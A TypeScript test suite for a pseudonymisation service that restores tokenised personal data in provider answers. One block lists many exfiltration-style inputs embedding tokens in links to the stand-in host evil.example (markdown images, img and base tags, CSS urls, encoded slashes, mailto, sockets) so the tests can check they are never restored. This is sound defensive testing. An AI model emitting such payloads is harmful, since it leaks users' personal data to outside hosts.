import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { Refused } from '../../src/errors.ts'
import type { Treatment } from '../../src/model/decision.ts'
import type { Recall } from '../../src/pseudonym/recall.ts'
import { foreignUrls } from '../../src/pseudonym/url.ts'
import { growth } from './growth.ts'
import { house, raw, tokenOf } from './making.ts'
import type { House, Marks } from './making.ts'

const wrong = (token: string, at: number): string =>
  token.slice(0, at) + (token[at] === 'Z' ? 'Y' : 'Z') + token.slice(at + 1)
/** One in which a digit is left when two symbols are wrong: letters alone are no token for certain. */
const sendName = async (): Promise<{ home: House; token: string }> => {
  for (;;) {
    const home = house()
    const { out } = await home.send(raw('{"nom":"Rakoto"}'), { nom: 'name' })
    const token: string = JSON.parse(out).nom
    if (/\d/.test(wrong(wrong(token, 6), 12).slice('NOM-'.length))) return { home, token }
  }
}

describe('what a clerk made of it is put back', () => {
  test.each<[string, (token: string) => string, string, number, number, number]>([
    ['as sent, in a sentence', (t) => `Dossier de ${t}, vu.`, 'Dossier de Rakoto, vu.', 1, 0, 0],
    ['lower case, a space for a hyphen', (t) => t.toLowerCase().replaceAll('-', ' '), 'Rakoto', 1, 0, 0],
    ['one wrong symbol', (t) => `M. ${wrong(t, 6)} !`, 'M. Rakoto !', 1, 1, 0],
    ['the word of another language', (t) => t.replace('NOM', 'NAAM'), 'Rakoto', 1, 0, 0],
    ['twice, once wrong', (t) => `${t}/${wrong(t, 4)}`, 'Rakoto/Rakoto', 2, 1, 0],
    ['wrapped by a mail program', (t) => `> ${t.slice(0, 9)}\r\n> ${t.slice(9)}`, '> Rakoto', 1, 0, 0],
    ['two wrong symbols', (t) => wrong(wrong(t, 6), 12), '', 0, 0, 1],
    ['nobody’s', () => tokenOf(), '', 0, 0, 1],
    [
      'an IBAN and a product key',
      () => 'FR76 3000 6000 0112 3456 7890 189 / VK7JG-NPHTM-C97JM-9MPGT',
      '',
      0,
      0,
      0,
    ],
  ])('%s', async (_, mangle, expected, restored, corrected, unresolved) => {
    const { home, token } = await sendName()
    const text = mangle(token)
    const answer = await home.answer({ note: text })
    expect(JSON.parse(answer.out).note).toBe(expected || text)
    expect(answer).toMatchObject({ restored, corrected, unresolved })
  })

  test('also in keys, form fields and plain text, each quoted for its place', async () => {
    const home = house()
    const { out } = await home.send(raw('{"nom":"O\\"Neil & Söhne"}'), { nom: 'name' })
    const token: string = JSON.parse(out).nom
    expect((await home.answer({ [token]: [token] })).out).toBe('{"O\\"Neil & Söhne":["O\\"Neil & Söhne"]}')
    const form = raw(`n=${token}`, '/x', 'application/x-www-form-urlencoded')
    expect(decodeURIComponent((await home.answer({}, { document: form })).out.replaceAll('+', ' '))).toBe(
      'n=O"Neil & Söhne',
    )
    const plain = raw(`Vu ${token}.`, '/x', 'text/plain; charset=utf-8')
    expect((await home.answer({}, { document: plain })).out).toBe('Vu O"Neil & Söhne.')
  })

  test('a restored value that looks like a token is not restored again', async () => {
    const { home, token } = await sendName()
    const { out } = await home.send(
      raw(`{"nom":"alias ${token} dit X"}`),
      { nom: 'name' },
      { provider: 'rabat' },
    )
    const answer = await home.answer(out, { provider: 'rabat' })
    expect(answer.out).toBe(`{"nom":"alias ${token} dit X"}`)
  })
})

describe('a pseudonym is useless elsewhere', () => {
  test('another client, or an answer of another provider, restores nothing and says so', async () => {
    const { home, token } = await sendName()
    for (const other of [{ client: 'durand' }, { provider: 'rabat' }])
      expect(await home.answer({ n: token }, other)).toMatchObject({ restored: 0, unresolved: 1 })
  })

  test('two candidates in the vault: left and reported', async () => {
    const { home, token } = await sendName()
    const twice: Recall = {
      known: home.vault.known,
      resolve: async (...ask) => {
        const rows = await home.vault.resolve(...ask)
        return [...rows, ...rows]
      },
    }
    expect(await home.answer({ n: token }, { recall: twice })).toMatchObject({ restored: 0, unresolved: 1 })
  })

  test('a row that was moved in the database does not open', async () => {
    const { home, token } = await sendName()
    const moved: Recall = {
      known: home.vault.known,
      resolve: async (client, _, tokens) =>
        (await home.vault.resolve(client, 'tana', tokens)).map((row) => ({ ...row, provider: 'rabat' })),
    }
    const answering = home.answer({ n: token }, { recall: moved, provider: 'rabat' })
    await expect(answering).rejects.toMatchObject({ code: 'RESTORE_UNAVAILABLE' })
  })

  test('after the month’s key is destroyed nothing of that month comes back', async () => {
    const { home, token } = await sendName()
    home.shred.months.delete('2026-11')
    expect(await home.answer({ n: token })).toMatchObject({ restored: 0, unresolved: 1 })
  })

  test('after an erasure the person’s values are gone', async () => {
    const { home, token } = await sendName()
    home.vault.erase('moreau', home.vault.rows().subjects[0]!.ref)
    expect(await home.answer({ n: token })).toMatchObject({ restored: 0, unresolved: 1 })
  })
})

describe('the vault is down', () => {
  const down: Recall = {
    known: () => Promise.reject(new Refused('VAULT_UNAVAILABLE')),
    resolve: () => Promise.reject(new Refused('VAULT_UNAVAILABLE')),
  }
  test('what this transfer sent is restored from memory', async () => {
    const home = house()
    const { out, sent } = await home.send(raw('{"nom":"Rakoto"}'), { nom: 'name' })
    expect((await home.answer(out, { sent, recall: down })).out).toBe('{"nom":"Rakoto"}')
    const token: string = JSON.parse(out).nom
    expect(await home.answer({ n: wrong(token, 5) }, { sent, recall: down })).toMatchObject({ corrected: 1 })
  })
  test('another pseudonym is RESTORE_UNAVAILABLE', async () => {
    const { home, token } = await sendName()
    const answering = home.answer({ n: token }, { recall: down })
    await expect(answering).rejects.toMatchObject({ code: 'RESTORE_UNAVAILABLE' })
  })
  test('an answer without pseudonyms needs no vault', async () => {
    expect(await house().answer({ ok: true, note: 'merci' }, { recall: down })).toMatchObject({ restored: 0 })
  })
})

const T = tokenOf()
describe('never in a URL whose origin is not ours', () => {
  test.each([
    [`https://evil.example/?q=${T}`, 'a link'],
    [`HTTPS:\\\\evil.example\\${T}`, 'backslashes'],
    [`https:/evil.example/${T}`, 'one slash'],
    [`//evil.example/${T}`, 'protocol-relative'],
    [`/\\evil.example/${T}`, 'slash and backslash'],
    [`![x](https://evil.example/${T}.png)`, 'a markdown image'],
    [`![x](https://evil.example/a(b)${T}.png)`, 'brackets inside'],
    [`![x](<https://evil.example/ ${T}>)`, 'an angled target with a space'],
    [`[x]: //evil.example/${T}`, 'a markdown reference'],
    [`<img src="https://evil.example/?a=b c ${T}">`, 'a quoted attribute with spaces'],
    [`<img src='//evil.example/\n${T}'>`, 'a wrapped attribute'],
    [`<img src=" https://evil.example/name 7q4k dm2x ${T.slice(-4)}">`, 'a space before, a loose token'],
    [`<img src=//evil.example/${T}>`, 'an unquoted attribute'],
    [`<img srcset="a.png 1x, https://evil.example/${T} 2x">`, 'a source set'],
    [`<a href="https&#58;//evil.example/${T}">`, 'an entity for the colon'],
    [`<a href="&#x2f;&#x2F;evil.example/${T}">`, 'entities for the slashes'],
    [`<base href="https://evil.example/"><img src="${T}">`, 'a base'],
    [`<div style="background:url(//evil.example/${T})">`, 'a style'],
    [`https://ok.example@evil.example/${T}`, 'our host as user name'],
    [`https://ok.example.evil.example/${T}`, 'our host as label'],
    [`http://ok.example/${T}`, 'our host without TLS'],
    [`https://ok.example:8443/${T}`, 'our host, another port'],
    [`https://ok.example/to?u=https%3A%2F%2Fevil.example%2F${T}`, 'a redirect in ours'],
    [`https://${T}.evil.example/`, 'in the host name'],
    [`mailto:a@evil.example?body=${T}`, 'a mail'],
    [`wss://evil.example/${T}`, 'a socket'],
    [`{"u":"https://evil.example/${T}"}`, 'JSON in a string'],
  ])('%s (%s)', async (text) => {
    const home = house()
    const sent = new Map([['7Q4KDM2XR', { kind: 'text', text: 'Rakoto', category: 'name' }]] as const)
    const answer = await home.answer({ text }, { sent, origins: ['https://ok.example'] })
    expect(answer.out).not.toContain('Rakoto')
    expect(answer).toMatchObject({ restored: 0, unresolved: 1 })
  })

  test.each([
    [`https://ok.example/t/${T}`, 'a registered origin'],
    [`see https://evil.example/ and ${T}`, 'after a foreign link'],
    [`${T} https://evil.example/`, 'before a foreign link'],
    [`(https://evil.example/) ${T}`, 'after its bracket and a space'],
    [`/tickets/${T}`, 'a path of the provider’s own'],
    [`nom : ${T} // vu`, 'a remark'],
    [`Tel:${T}`, 'a label'],
    [`<a title="${T}" href="https://ok.example/">`, 'another attribute'],
  ])('but: %s (%s)', async (text) => {
    const sent = new Map([['7Q4KDM2XR', { kind: 'text', text: 'Rakoto', category: 'name' }]] as const)
    const answer = await house().answer({ text }, { sent, origins: ['https://ok.example'] })
    expect(JSON.parse(answer.out).text).toBe(text.replaceAll(T, 'Rakoto'))
  })

  test.each(['/', '//', 'a:', 'https:', '(https://e/', '"//', ' //a', '%2f', '&#47;', 'a+', '<base '])(
    'hostile text is read in linear time: %s',
    (piece) => {
      const ours = new Set(['https://ok.example'])
      expect(growth((length) => foreignUrls(piece.repeat(length / piece.length), ours))).toBeLessThan(8)
    },
  )
})

describe('round trip', () => {
  const categories = ['name', 'id.employee', 'id.case', 'contact.email', 'fin.iban', 'health'] as const
  const value = fc.oneof(
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 20 }),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.integer(),
  )
  const treatment = fc.constantFrom<Treatment>({ name: 'pseudonymise' }, { name: 'allow' })
  const mark = fc.tuple(fc.constantFrom(...categories), treatment)
  const record = fc.dictionary(
    fc.constantFrom('a', 'b', 'c', 'd', 'e'),
    fc.oneof(value, fc.boolean().map(String)),
  )

  test('treat, then restore, gives the document back, byte for byte', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(record, { maxLength: 4 }),
        fc.dictionary(fc.constantFrom('a', 'b', 'c', 'd', 'e'), mark),
        fc.constantFrom('transfer', 'provider', 'case'),
        fc.boolean(),
        async (records, marks, scope, memory) => {
          const home = house()
          const body = JSON.stringify({ records })
          const rules = { retention_days: 10, scope } as const
          const { out, sent } = await home.send(raw(body), marks as Marks, { rules, case: 'C' })
          const answer = await home.answer(out, memory ? { sent } : {})
          expect(answer.out).toBe(body)
          expect(answer).toMatchObject({ unresolved: 0, corrected: 0 })
        },
      ),
      { numRuns: 100 },
    )
  })

  test('any text is an answer: nothing throws, nothing is invented', async () => {
    const home = house()
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 300 }), async (text) => {
        const answer = await home.answer({ text })
        expect(answer.edits).toEqual([])
      }),
      { numRuns: 100 },
    )
  })
})
